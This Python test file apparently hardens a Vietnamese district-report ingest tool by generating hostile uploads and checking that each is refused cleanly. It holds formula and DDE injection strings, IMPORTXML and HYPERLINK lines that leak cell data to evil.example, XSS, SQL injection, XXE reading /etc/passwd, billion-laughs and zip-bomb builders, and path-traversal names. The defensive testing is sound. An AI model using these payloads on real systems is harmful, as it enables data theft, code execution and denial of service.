"""A generated corpus of hostile inputs: broken, malicious and absurd files, each refused with a
clear message within bounded time and memory, and the warehouse unchanged.

Every input is generated in tmp_path (nothing is committed) and goes through the same two
paths: `validate_paths` (what `tonghop validate` and the flow's validate-batch run), then the
full library ingest path (validate -> write_staging -> load_batch into a real DuckDB copied
from a baseline holding real June 2024 data of district 105).

"Refused" means one of two things, decided per input and checked:
- unreadable: a ReadError with one sentence in Vietnamese and one in English; nothing is
  staged, the warehouse is byte-for-byte the same;
- rejected: the file is readable but breaks a rule; it is stored as a *rejected* version with
  its issues (never current, never counted): the only changes are new rows for that one
  submission (fct_submission, fct_value, fct_issue, audit_log, stg_batch), no existing row
  changes and no other table moves.
A third group carries formula/DDE/HTML payloads in *note* cells of otherwise valid files: notes
are free text, so the file is accepted and the payload stored verbatim as text; the outputs
(tests/test_output_safety.py) then prove it is escaped everywhere it is shown.
"""

from __future__ import annotations

import codecs
import gzip
import html.parser
import io
import json
import os
import random
import shutil
import struct
import time
import tracemalloc
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from test_warehouse_support import snapshot

from conftest import ROOT, SAMPLES
from validations.intake import expand_paths, validate_paths
from validations.outbox import write_reports, write_unreadable
from validations.readers import MAX_FILE_BYTES
from validations.report import render_html
from warehouse.db import connect, open_warehouse
from warehouse.staging import write_staging
from warehouse.store import load_batch

pytestmark = pytest.mark.slow  # the fast lane is `pytest -m "not slow"`

CANON = SAMPLES / "messy" / "canonical.csv"  # commune 03386, 2024-06, valid
FORM = SAMPLES / "messy" / "form.xlsx"  # the same report as the Excel form
BASELINE = SAMPLES / "valid" / "2024-06" / "105"  # district 105 and its communes
WRITTEN_TABLES = ("fct_submission", "fct_value", "fct_issue", "audit_log", "stg_batch")

# Payloads a spreadsheet or a browser would run
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
DDE = "+cmd|' /C calc'!A0"
PAYLOADS = [
    HYPERLINK,
    DDE,
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1\tcột",
    "<script>alert('xss')</script>",
    '"><img src=x onerror=alert(1)>',
    '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")',
]
SQL_UNIT = "03386'; DROP TABLE fct_value; --"


# --- builders ------------------------------------------------------------------------------------
def canon_rows() -> list[list[str]]:
    import csv

    with CANON.open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def csv_text(rows: list[list[str]], sep: str = ",") -> str:
    import csv

    buf = io.StringIO()
    csv.writer(buf, delimiter=sep, lineterminator="\n").writerows(rows)
    return buf.getvalue()


def edited(fn: Callable[[list[list[str]]], list[list[str]]]) -> Callable[[Path], bytes]:
    """Canonical rows changed by fn, as UTF-8 CSV bytes."""
    return lambda _tmp: csv_text(fn(canon_rows())).encode("utf-8")


def set_cell(col: int, value: str, rows_idx: tuple[int, ...] | None = None):
    def fn(rows: list[list[str]]) -> list[list[str]]:
        for i, r in enumerate(rows[1:], 1):
            if rows_idx is None or i in rows_idx:
                r[col] = value
        return rows

    return fn


def form_with(tmp: Path, values: dict | None = None, notes: dict | None = None) -> bytes:
    """The 03386 June form with some values or notes replaced (openpyxl writes them)."""
    from validations.template import write_template

    base = {r[2]: r[3] for r in canon_rows()[1:]}
    vals: dict[str, object] = {k: float(v) for k, v in base.items()}
    vals.update(values or {})
    out = tmp / "_form.xlsx"
    write_template("03386", "2024-06", out, values=vals, notes=notes)
    return out.read_bytes()


def zip_replace(tmp: Path, member: str, data: bytes, level: int = 6) -> bytes:
    """FORM with one zip member's content replaced."""
    out = io.BytesIO()
    with zipfile.ZipFile(FORM) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            body = data if info.filename == member else zin.read(info.filename)
            zout.writestr(info.filename, body, compresslevel=level)
    return out.getvalue()


def patch_declared_size(data: bytes, member: str, size: int) -> bytes:
    """Make the zip's headers lie about a member's uncompressed size."""
    buf = bytearray(data)
    name = member.encode()
    pos = 0
    while (pos := buf.find(b"PK\x03\x04", pos)) >= 0:  # local file headers
        n = struct.unpack_from("<H", buf, pos + 26)[0]
        if bytes(buf[pos + 30 : pos + 30 + n]) == name:
            struct.pack_into("<I", buf, pos + 22, size)
        pos += 4
    pos = 0
    while (pos := buf.find(b"PK\x01\x02", pos)) >= 0:  # central directory
        n = struct.unpack_from("<H", buf, pos + 28)[0]
        if bytes(buf[pos + 46 : pos + 46 + n]) == name:
            struct.pack_into("<I", buf, pos + 24, size)
        pos += 4
    return bytes(buf)


def sheet_xml() -> str:
    with zipfile.ZipFile(FORM) as z:
        return z.read("xl/worksheets/sheet1.xml").decode("utf-8")


def with_dtd(dtd: str, cell_text: str) -> str:
    body = sheet_xml()
    if body.startswith("<?xml"):
        body = body.split("?>", 1)[1]
    extra = f'<row r="60"><c r="F60" t="inlineStr"><is><t>{cell_text}</t></is></c></row>'
    return '<?xml version="1.0"?>\n' + dtd + body.replace("</sheetData>", extra + "</sheetData>")


LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY l0 "lollollollollollollollollollol">'
    + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    + "]>"
)
XXE = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def rand_bytes(n: int, seed: str) -> bytes:
    return random.Random(seed).randbytes(n)


def broken_utf8(_tmp: Path) -> bytes:
    data = csv_text(canon_rows()).encode("utf-8")
    cut = data.index("chú".encode()) + 2  # inside the UTF-8 sequence of "ú"
    return data[:cut] + b"\xff" + data[cut:]


def form_cells(tmp: Path, edit: Callable[[object], None], name: str = "_edited.xlsx") -> bytes:
    """The sample form (FORM) with `edit(workbook)` applied by openpyxl."""
    from openpyxl import load_workbook

    wb = load_workbook(FORM)
    edit(wb)
    out = tmp / name
    wb.save(out)
    return out.read_bytes()


def set_period_cell(value: object) -> Callable[[object], None]:
    """Put `value` (a number, as Excel stores a typed 2024.10) in the form's period cell."""

    def edit(wb) -> None:  # type: ignore[no-untyped-def]
        ws = wb["BaoCao"]
        for row in ws.iter_rows(max_row=20):
            for c in row:
                if c.value == "Kỳ báo cáo":
                    target = next(x for x in row[c.column :] if x.value not in (None, ""))
                    target.value = value
                    return
        raise AssertionError("no period cell")

    return edit


def hidden_copy(state: str, figure: float | None) -> Callable[[object], None]:
    """A copy of the form sheet in `state` ("veryHidden"), its crime_cases set to `figure`;
    or, with figure None, a hidden sheet of choices that holds no form."""

    def edit(wb) -> None:  # type: ignore[no-untyped-def]
        if figure is None:
            lists = wb.create_sheet("DanhSach")
            lists.append(["Có"])
            lists.append(["Không"])
            lists.sheet_state = state
            return
        copy = wb.copy_worksheet(wb["BaoCao"])
        copy.title = "BaoCao (2)"
        copy.sheet_state = state
        wb.move_sheet(copy, offset=-1)  # before the visible form
        for row in copy.iter_rows():
            for c in row:
                if c.value == "crime_cases":
                    copy.cell(row=c.row, column=5).value = figure

    return edit


def spellings(col: int, forms: list[str]) -> Callable[[list[list[str]]], list[list[str]]]:
    """Each data row's cell `col` in the next of `forms` (one report, several spellings)."""

    def fn(rows: list[list[str]]) -> list[list[str]]:
        for i, r in enumerate(rows[1:]):
            r[col] = forms[i % len(forms)]
        return rows

    return fn


def poppy_row(*cells: str) -> Callable[[list[list[str]]], list[list[str]]]:
    """The poppy_destroyed_m2 row's value and following cells replaced by `cells` (written
    unquoted: a "2,5" of a Vietnamese-locale export becomes two cells)."""

    def fn(rows: list[list[str]]) -> list[list[str]]:
        return [r[:3] + list(cells) if r[2] == "poppy_destroyed_m2" else r for r in rows]

    return fn


def unquoted(fn: Callable[[list[list[str]]], list[list[str]]]) -> Callable[[Path], bytes]:
    """Canonical rows changed by fn, joined with bare commas (no CSV quoting at all)."""
    return lambda _tmp: "".join(",".join(r) + "\n" for r in fn(canon_rows())).encode("utf-8")


# --- the corpus ----------------------------------------------------------------------------------
@dataclass(frozen=True)
class Case:
    """One hostile input: how to make it, and how it must be refused."""

    id: str
    name: str  # file name
    make: Callable[[Path], bytes] | None  # None: made by `special`
    kind: str  # "unreadable" | "rejected" | "accepted_text" | "accepted_same"
    expect: str  # rule id (rejected) or words of the English message (unreadable)
    special: str | None = None  # sparse | symlink | fifo
    max_seconds: float = 20.0  # with tracemalloc on (about 2-8x slower)
    max_mib: float = 80.0


def _dup_rows(n: int) -> Callable[[Path], bytes]:
    line = "03386,2024-06,crime_cases,1,\n"
    return lambda _t: ("unit_code,period,indicator,value,note\n" + line * n).encode()


CASES = [
    # -- broken and hostile workbooks
    Case(
        "xlsx_truncated_half",
        "r.xlsx",
        lambda t: FORM.read_bytes()[: FORM.stat().st_size // 2],
        "unreadable",
        "truncated",
    ),
    Case(
        "xlsx_truncated_tail",
        "r.xlsx",
        lambda t: FORM.read_bytes()[:-120],
        "unreadable",
        "truncated",
    ),
    Case(
        "xlsx_zip_bomb_ratio",
        "r.xlsx",
        lambda t: zip_replace(t, "xl/styles.xml", b" " * (40 << 20), level=9),
        "unreadable",
        "times (40 MB, at most 100 times)",  # the part's ratio, not "40 MB, at most 50 MB"
    ),
    Case(
        "xlsx_zip_bomb_declared_4gb",
        "r.xlsx",
        lambda t: patch_declared_size(FORM.read_bytes(), "xl/worksheets/sheet1.xml", 0xFFFF0000),
        "unreadable",
        "expands to too much data",
    ),
    Case(
        "xlsx_zip_bomb_lying_small_size",
        "r.xlsx",
        lambda t: patch_declared_size(
            zip_replace(
                t, "xl/worksheets/sheet1.xml", sheet_xml().encode() + b"\0" * (60 << 20), level=9
            ),
            "xl/worksheets/sheet1.xml",
            4000,
        ),
        "unreadable",
        "truncated",
    ),
    Case(
        "xlsx_billion_laughs",
        "r.xlsx",
        lambda t: zip_replace(t, "xl/worksheets/sheet1.xml", with_dtd(LAUGHS, "&l9;").encode()),
        "unreadable",
        "declares a DTD",
    ),
    Case(
        "xlsx_xxe_etc_passwd",
        "r.xlsx",
        lambda t: zip_replace(t, "xl/worksheets/sheet1.xml", with_dtd(XXE, "&xxe;").encode()),
        "unreadable",
        "declares a DTD",
    ),
    Case(
        "xlsx_data_beyond_row_20000",
        "r.xlsx",
        lambda t: zip_replace(
            t,
            "xl/worksheets/sheet1.xml",
            sheet_xml()
            .replace(
                "</sheetData>",
                '<row r="20001"><c r="B20001" t="inlineStr"><is><t>crime_cases</t></is></c>'
                '<c r="E20001"><v>1</v></c></row></sheetData>',
            )
            .encode(),
        ),
        "unreadable",
        "more than",
    ),
    Case(
        "xlsx_no_form", "r.xlsx", lambda t: _plain_workbook(t), "unreadable", "not a tonghop form"
    ),
    Case(
        "xls_ole2",
        "r.xls",
        lambda t: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096),
        "unreadable",
        "old Excel",
    ),
    Case("xlsm_macro_name", "r.xlsm", lambda t: FORM.read_bytes(), "unreadable", "not accepted"),
    Case(
        "html_named_xlsx",
        "r.xlsx",
        lambda t: b"<html><body><table></table></body></html>",
        "unreadable",
        "truncated",
    ),
    # -- oversized and absurd CSV
    Case(
        "csv_100mb_sparse",
        "big.csv",
        None,
        "unreadable",
        "too large",
        special="sparse",
        max_seconds=0.5,
        max_mib=1.0,
    ),
    Case(
        "csv_one_4mb_field",
        "r.csv",
        lambda t: (
            b'unit_code,period,indicator,value,note\n03386,2024-06,crime_cases,1,"'
            + b"A" * (4 << 20)
            + b'"\n'
        ),
        "unreadable",
        "not valid CSV",
    ),
    Case(
        "csv_unclosed_quote",
        "r.csv",
        lambda t: (
            b'unit_code,period,indicator,value,note\n03386,2024-06,crime_cases,"1\n'
            + b"03386,2024-06,crime_solved,0,\n" * 100_000
        ),
        "unreadable",
        "not valid CSV",
    ),
    Case(
        "csv_200000_header_columns",
        "r.csv",
        lambda t: (",".join(f"cot{i}" for i in range(200_000)) + "\n1,2\n").encode(),
        "unreadable",
        "lacks the column",
    ),
    Case(
        "csv_10000_duplicate_rows",
        "r.csv",
        _dup_rows(10_000),
        "unreadable",
        "more than 5,000 data rows",
    ),
    Case("csv_4mb_of_blank_lines", "r.csv", lambda t: b"\r\n" * (2 << 20), "unreadable", "empty"),
    Case(
        "csv_header_only_with_bom",
        "r.csv",
        lambda t: codecs.BOM_UTF8 + b"unit_code;period;indicator;value\r\n",
        "unreadable",
        "no data rows",
    ),
    # -- binary
    Case(
        "binary_random",
        "r.csv",
        lambda t: rand_bytes(65_536, "r"),
        "unreadable",
        "neither readable CSV",
    ),
    Case(
        "binary_png_named_csv",
        "r.csv",
        lambda t: b"\x89PNG\r\n\x1a\n" + rand_bytes(8192, "p"),
        "unreadable",
        "neither readable CSV",
    ),
    Case(
        "binary_elf_named_csv",
        "r.csv",
        lambda t: b"\x7fELF\x02\x01\x01" + bytes(64) + rand_bytes(4096, "e"),
        "unreadable",
        "neither readable CSV",
    ),
    Case(
        "binary_gzip_of_a_valid_csv",
        "r.csv",
        lambda t: gzip.compress(CANON.read_bytes()),
        "unreadable",
        "neither readable CSV",
    ),
    Case(
        "binary_pdf_named_csv",
        "r.csv",
        lambda t: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nstream\n" + rand_bytes(4096, "d"),
        "unreadable",
        "neither readable CSV",
    ),
    Case(
        "nul_byte_in_a_valid_csv",
        "r.csv",
        lambda t: CANON.read_bytes().replace(b"0,\n", b"0,\x00\n", 1),
        "unreadable",
        "neither readable CSV",
    ),
    Case(
        "json_named_csv", "r.csv", lambda t: b'[{"unit_code": "03386"}]', "unreadable", "holds JSON"
    ),
    # -- wrong encodings
    Case(
        "utf16le_without_bom",
        "r.csv",
        lambda t: CANON.read_text("utf-8").encode("utf-16-le"),
        "unreadable",
        "neither readable CSV",
    ),
    Case(
        "utf32",
        "r.csv",
        lambda t: CANON.read_text("utf-8").encode("utf-32"),
        "unreadable",
        "neither readable CSV",
    ),
    Case(
        "ebcdic_cp500",
        "r.csv",
        lambda t: CANON.read_text("utf-8").encode("cp500", "replace"),
        "unreadable",
        "neither readable CSV",
    ),
    Case("utf8_with_one_broken_byte", "r.csv", broken_utf8, "unreadable", "damaged"),
    # -- the file system
    Case("symlink_to_etc_passwd", "r.csv", None, "unreadable", "symbolic link", special="symlink"),
    Case("fifo_named_csv", "r.csv", None, "unreadable", "not a report file", special="fifo"),
    Case(
        "traversal_name_unreadable",
        "..%2f..%2f..%2fetc%2fcron.d%2fpwn.csv",
        lambda t: rand_bytes(512, "t"),
        "unreadable",
        "neither readable CSV",
    ),
    Case(
        "html_name_unreadable",
        "<img src=x onerror=alert(1)>.csv",
        lambda t: rand_bytes(512, "h"),
        "unreadable",
        "neither readable CSV",
    ),
    Case(
        "newline_name_unreadable",
        "bao cao\nFAKE LOG: accepted.csv",
        lambda t: rand_bytes(512, "n"),
        "unreadable",
        "neither readable CSV",
    ),
    # -- readable but against the rules: stored as a rejected version only
    Case("sql_in_unit_code", "r.csv", edited(set_cell(0, SQL_UNIT)), "rejected", "unit_unknown"),
    Case(
        "sql_or_in_unit_code",
        "r.csv",
        edited(set_cell(0, "' OR '1'='1")),
        "rejected",
        "unit_unknown",
    ),
    Case(
        "sql_in_indicator",
        "r.csv",
        edited(set_cell(2, "crime_cases'); DELETE FROM fct_submission; --", (1,))),
        "rejected",
        "indicator_unknown",
    ),
    Case(
        "sql_in_period",
        "r.csv",
        edited(set_cell(1, "2024-06'; DROP TABLE audit_log; --")),
        "rejected",
        "period_malformed",
    ),
    Case(
        "unit_code_of_100_kb",
        "r.csv",
        edited(set_cell(0, "0" * 100_000)),
        "rejected",
        "unit_unknown",
    ),
    Case(
        "html_in_unit_code",
        "r.csv",
        edited(set_cell(0, "<script>alert(1)</script>")),
        "rejected",
        "unit_unknown",
    ),
    Case(
        "formula_in_unit_code", "r.csv", edited(set_cell(0, HYPERLINK)), "rejected", "unit_unknown"
    ),
    Case(
        "traversal_in_unit_code",
        "r.csv",
        edited(set_cell(0, "../../../../tmp/pwn")),
        "rejected",
        "unit_unknown",
    ),
    Case(
        "traversal_in_period",
        "r.csv",
        edited(set_cell(1, "../../etc")),
        "rejected",
        "period_malformed",
    ),
    Case(
        "formula_in_value_csv",
        "r.csv",
        edited(set_cell(3, HYPERLINK, (1,))),
        "rejected",
        "value_not_number",
    ),
    Case(
        "dde_in_value_csv", "r.csv", edited(set_cell(3, DDE, (1,))), "rejected", "value_not_number"
    ),
    Case(
        "dde_formula_in_value_xlsx",
        "r.xlsx",
        lambda t: form_with(t, values={"crime_cases": "=cmd|' /C calc'!A0"}),
        "rejected",
        "value_formula",
    ),
    Case(
        "external_link_formula_xlsx",
        "r.xlsx",
        lambda t: form_with(t, values={"crime_solved": "=[1]Sheet1!A1"}),
        "rejected",
        "value_formula",
    ),
    Case(
        "several_periods",
        "r.csv",
        edited(set_cell(1, "2024-05", (3, 5, 7))),
        "rejected",
        "file_several_submissions",
    ),
    Case(
        "several_units",
        "r.csv",
        edited(set_cell(0, "03387", (2, 4))),
        "rejected",
        "file_several_submissions",
    ),
    Case("4000_duplicate_rows", "r.csv", _dup_rows(4000), "rejected", "duplicate_value"),
    Case(
        "traversal_name_rejected",
        "..%2f..%2fwarehouse.duckdb.csv",
        edited(set_cell(3, "5", (2,))),
        "rejected",
        "crime_solved_le_cases",
    ),
    # -- round 2: nothing read is dropped, mis-filed or guessed (issue 13, issue 9 part 5)
    Case(
        "count_of_400_nines",
        "r.csv",
        edited(set_cell(3, "9" * 400, (5,))),
        "rejected",
        "value_implausible",
    ),
    Case(
        "count_of_110_digit_groups",
        "r.csv",
        edited(set_cell(3, "1" + ".000" * 110, (5,))),
        "rejected",
        "value_implausible",
    ),
    Case(
        "count_of_110_thousand_groups_in_a_form_cell",
        "r.xlsx",
        lambda t: zip_replace(
            t,
            "xl/worksheets/sheet1.xml",
            sheet_xml().replace(
                '<c r="E14" s="12" t="n"><v>0</v></c>',
                '<c r="E14" s="12" t="inlineStr"><is><t>1' + ".000" * 110_000 + "</t></is></c>",
            ),
        ),
        "rejected",
        "value_implausible",
    ),
    Case(
        "count_above_the_catalog_ceiling",
        "r.csv",
        edited(set_cell(3, "250.000.000", (5,))),
        "rejected",
        "value_implausible",
    ),
    Case(
        "infinite_number_in_a_form_cell",
        "r.xlsx",
        lambda t: zip_replace(
            t,
            "xl/worksheets/sheet1.xml",
            sheet_xml().replace(
                '<c r="E14" s="12" t="n"><v>0</v>', '<c r="E14" s="12" t="n"><v>1e400</v>'
            ),
        ),
        "rejected",
        "value_implausible",
    ),
    Case(
        "period_2024_10_typed_as_a_number_xlsx",
        "r.xlsx",
        lambda t: form_cells(t, set_period_cell(2024.1)),
        "rejected",
        "period_ambiguous",
    ),
    Case(
        "period_2024_1_in_a_csv",
        "r.csv",
        edited(set_cell(1, "2024.1")),
        "rejected",
        "period_ambiguous",
    ),
    Case(
        "unquoted_vn_decimal_before_a_note",
        "r.csv",
        unquoted(poppy_row("2", "5")),  # 03386,2024-06,poppy_destroyed_m2,2,5
        "rejected",
        "value_split_decimal",
    ),
    Case(
        "row_with_more_cells_than_the_header",
        "r.csv",
        unquoted(poppy_row("1", "250", "đã kiểm tra")),
        "rejected",
        "row_extra_fields",
    ),
    Case(
        "two_periods_in_two_spellings",
        "r.csv",
        edited(spellings(1, ["2024-06", "5/2024"])),
        "rejected",
        "file_several_submissions",
    ),
    Case(
        "two_units_in_two_spellings",
        "r.csv",
        edited(spellings(0, ["03386", "3387"])),
        "rejected",
        "file_several_submissions",
    ),
    Case(
        "very_hidden_sheet_holding_other_figures",
        "r.xlsx",
        lambda t: form_cells(t, hidden_copy("veryHidden", 999)),
        "unreadable",
        "hidden sheet",
    ),
    Case(
        "hidden_sheet_holding_the_same_form",
        "r.xlsx",
        lambda t: form_cells(t, hidden_copy("hidden", 0)),
        "unreadable",
        "hidden sheet",
    ),
    Case("ods_in_the_inbox", "r.ods", lambda t: FORM.read_bytes(), "unreadable", "'.ods'"),
    Case(
        "xls_in_the_inbox",
        "r.xls",
        lambda t: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504),
        "unreadable",
        "old Excel",
    ),
    Case(
        "binary_without_extension",
        "03386_2024-06",
        lambda t: rand_bytes(2048, "x"),
        "unreadable",
        "neither readable CSV",
    ),
    # read to exactly the values of the canonical file
    Case(
        "one_period_in_five_spellings",
        "r.csv",
        edited(spellings(1, ["2024-06", "6/2024", "T6/2024", "2024-6", "06/2024"])),
        "accepted_same",
        "",
    ),
    Case(
        "one_unit_in_four_spellings",
        "r.csv",
        edited(spellings(0, ["03386", "3386", "3386.0", " 03386 "])),
        "accepted_same",
        "",
    ),
    Case(
        "name_ending_in_a_space",
        "03386_2024-06.csv ",
        lambda t: CANON.read_bytes(),
        "accepted_same",
        "",
    ),
    Case(
        "csv_without_extension",
        "03386_2024-06",
        lambda t: CANON.read_bytes(),
        "accepted_same",
        "",
    ),
    Case(
        "hidden_sheet_of_choices_xlsx",
        "r.xlsx",
        lambda t: form_cells(t, hidden_copy("veryHidden", None)),
        "accepted_same",
        "",
    ),
    # -- payloads in free-text notes: accepted, stored verbatim as text
    Case(
        "formula_notes_csv",
        "r.csv",
        edited(
            lambda rows: (
                [rows[0]] + [r[:4] + [PAYLOADS[i % len(PAYLOADS)]] for i, r in enumerate(rows[1:])]
            )
        ),
        "accepted_text",
        "",
    ),
    Case(
        "formula_notes_xlsx",
        "r.xlsx",
        lambda t: form_with(
            t,
            notes={
                c: PAYLOADS[i % len(PAYLOADS)]
                for i, c in enumerate(
                    [
                        "crime_cases",
                        "crime_solved",
                        "drug_cases",
                        "reports_received",
                        "drug_suspects",
                        "rehab_voluntary",
                        "propaganda_sessions",
                        "hotspots_total",
                    ]
                )
            },
        ),
        "accepted_text",
        "",
    ),
]


def _plain_workbook(tmp: Path) -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    wb.active.append(["Tên", "Số"])
    wb.active.append(['=HYPERLINK("http://evil.example")', 1])
    out = tmp / "_plain.xlsx"
    wb.save(out)
    return out.read_bytes()


def make_input(case: Case, tmp: Path) -> Path:
    folder = tmp / "in"
    folder.mkdir(exist_ok=True)
    path = folder / case.name
    if case.special == "sparse":
        with path.open("wb") as fh:  # 100 MB, written in milliseconds, no block allocated
            fh.write(b"unit_code,period,indicator,value,note\n")
            fh.truncate(100 * 1024 * 1024)
    elif case.special == "symlink":
        path.symlink_to("/etc/passwd")
    elif case.special == "fifo":
        os.mkfifo(path)
    else:
        assert case.make is not None
        path.write_bytes(case.make(tmp))
    return path


# --- the baseline warehouse -----------------------------------------------------------------------
@pytest.fixture(scope="module")
def baseline(tmp_path_factory, catalog, units, validator) -> Path:
    """June 2024 of district 105 and its communes except 03386 (the commune of the corpus), so
    that even an accepted file adds a first version and changes no existing row."""
    tmp = tmp_path_factory.mktemp("hostile_base")
    path = tmp / "base.duckdb"
    con = open_warehouse(path, catalog, units)
    files = [f for f in expand_paths([BASELINE]) if not f.name.startswith("03386")]
    out = validate_paths(files, validator)
    load_batch(con, write_staging(out.results, tmp / "staging", "base", out.hashes))
    assert con.execute("SELECT count(*) FROM fct_submission WHERE is_current").fetchone()[0] > 5
    con.close()
    return path


# --- the checks ------------------------------------------------------------------------------------
ALLOWED_TAGS = {
    "html",
    "head",
    "meta",
    "title",
    "style",
    "body",
    "h1",
    "h2",
    "p",
    "br",
    "span",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "em",
    "code",
}


class _Tags(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.handlers: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.handlers += [k for k, _ in attrs if k.startswith("on") or k in ("src", "href")]


def html_is_inert(page: str, extra: set[str] | frozenset[str] = frozenset()) -> None:
    """Only the report's own tags, no event handler, no link, no script anywhere."""
    p = _Tags()
    p.feed(page)
    assert p.tags <= ALLOWED_TAGS | extra, p.tags - ALLOWED_TAGS - extra
    assert p.handlers == []


def _values(res) -> list[tuple[object, ...]]:  # type: ignore[no-untyped-def]
    v = res.values
    return sorted(
        zip(v["unit_code"], v["period"], v["indicator"], v["value"], v["note"], strict=True)
    )


def clear_sentence(text: str, name: str) -> None:
    assert text and len(text) < 600, len(text)
    assert "\n" not in text and "Traceback" not in text and "root:x:" not in text


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_hostile_input_is_refused_cleanly(case, tmp_path, validator, catalog, baseline):
    path = make_input(case, tmp_path)
    # 1. validate: bounded time and memory, never an exception
    tracemalloc.start()
    t0 = time.perf_counter()
    try:
        outcome = validate_paths([path], validator)
    finally:
        elapsed = time.perf_counter() - t0
        peak = tracemalloc.get_traced_memory()[1] / 2**20
        tracemalloc.stop()
    assert elapsed < case.max_seconds, f"{elapsed:.2f} s"
    assert peak < case.max_mib, f"{peak:.1f} MiB"
    if case.kind == "unreadable":
        assert outcome.results == [] and len(outcome.unreadable) == 1
        u = outcome.unreadable[0]
        assert case.expect in u.message_en, u.message_en
        clear_sentence(u.message_en, case.name)
        clear_sentence(u.message_vi, case.name)
    else:
        assert outcome.unreadable == [] and len(outcome.results) == 1
        res = outcome.results[0]
        for issue in res.issues:  # every message says what to fix, briefly
            assert len(issue.message_vi) < 2000 and len(issue.message_en) < 2000
        if case.kind == "rejected":
            assert res.status == "rejected"
            assert case.expect in {i.rule_id for i in res.errors}, [i.rule_id for i in res.issues]
        elif case.kind == "accepted_same":  # the same values as the canonical file
            assert res.status == "accepted", [i.message_en for i in res.issues]
            assert _values(res) == _values(validator.validate_file(CANON))
        else:
            assert res.status != "rejected", [i.message_en for i in res.errors]
            notes = set(res.values["note"]) - {""}
            assert notes and all(any(n == p.strip() for p in PAYLOADS) for n in notes), notes

    # 2. the submitter's answer stays inside the outbox and is inert HTML / valid JSON
    outbox = tmp_path / "outbox"
    written = write_unreadable(outbox, outcome.unreadable)
    written += write_reports(
        outbox, outcome.results, {r.path: {"version": 1} for r in outcome.results}, catalog
    )
    for w in written:
        assert outbox.resolve() in w.resolve().parents
        text = w.read_text(encoding="utf-8")
        if w.suffix == ".json":
            json.loads(text)
        else:
            html_is_inert(text)
    for res in outcome.results:
        html_is_inert(render_html(res, catalog, "en"))

    # 3. the full ingest path into a real warehouse
    db = tmp_path / "wh.duckdb"
    shutil.copy(baseline, db)
    con = connect(db)
    try:
        before = snapshot(con)
        if outcome.results:  # the flow stages only when something was readable
            batch = write_staging(outcome.results, tmp_path / "staging", "h1", outcome.hashes)
            (done,) = load_batch(con, batch)
            assert done.status == ("rejected" if case.kind == "rejected" else "accepted")
        after = snapshot(con)
        tables = set(before) | set(after)
        assert {"fct_value", "fct_submission", "audit_log"} <= tables  # nothing dropped
        for t in tables:
            gone = {repr(r) for r in before[t]} - {repr(r) for r in after[t]}
            assert not gone, f"{t}: existing rows changed or deleted"
            if t not in WRITTEN_TABLES or case.kind == "unreadable":
                assert after[t] == before[t], t
        if outcome.results:
            subs = con.execute(
                "SELECT submission_id, status, is_current FROM fct_submission WHERE batch_id = 'h1'"
            ).fetchall()
            assert len(subs) == 1
            sid, status, is_current = subs[0]
            assert (status == "rejected") is (case.kind == "rejected")
            assert is_current is (case.kind != "rejected")  # a rejected file is never current
            for t, col in (("fct_value", 0), ("fct_issue", 0)):
                new = set(after[t]) - set(before[t])
                assert {r[col] for r in new} <= {sid}, t
            if case.kind == "accepted_text":  # stored verbatim, as text
                notes = {
                    r[0]
                    for r in con.execute(
                        "SELECT note FROM fct_value WHERE submission_id = ? AND note <> ''", [sid]
                    ).fetchall()
                }
                assert notes and notes <= {p.strip() for p in PAYLOADS}
    finally:
        con.close()


def test_the_100_mb_file_is_refused_from_its_size_without_reading_it(tmp_path, monkeypatch):
    case = next(c for c in CASES if c.special == "sparse")
    path = make_input(case, tmp_path)
    assert path.stat().st_size == 100 * 1024 * 1024 > MAX_FILE_BYTES
    opened: list[str] = []
    real_open = Path.open

    def spy(self, *a, **k):  # type: ignore[no-untyped-def]
        opened.append(str(self))
        return real_open(self, *a, **k)

    monkeypatch.setattr(Path, "open", spy)
    monkeypatch.setattr(Path, "read_bytes", lambda self: pytest.fail("read the big file"))
    from validations.readers import ReadError, read_submission

    t0 = time.perf_counter()
    with pytest.raises(ReadError, match="too large"):
        read_submission(path)
    assert time.perf_counter() - t0 < 0.1
    assert str(path) not in opened


def test_the_corpus_covers_the_issue_and_the_docs_state_its_figures():
    kinds = {
        k: sum(c.kind == k for c in CASES)
        for k in ("unreadable", "rejected", "accepted_text", "accepted_same")
    }
    assert len({c.id for c in CASES}) == len(CASES)
    readme = (ROOT / "docs" / "hardening.md").read_text(encoding="utf-8")
    assert f"{len(CASES)} hostile inputs" in readme
    assert (
        f"{kinds['unreadable']} unreadable" in readme and f"{kinds['rejected']} rejected" in readme
    )
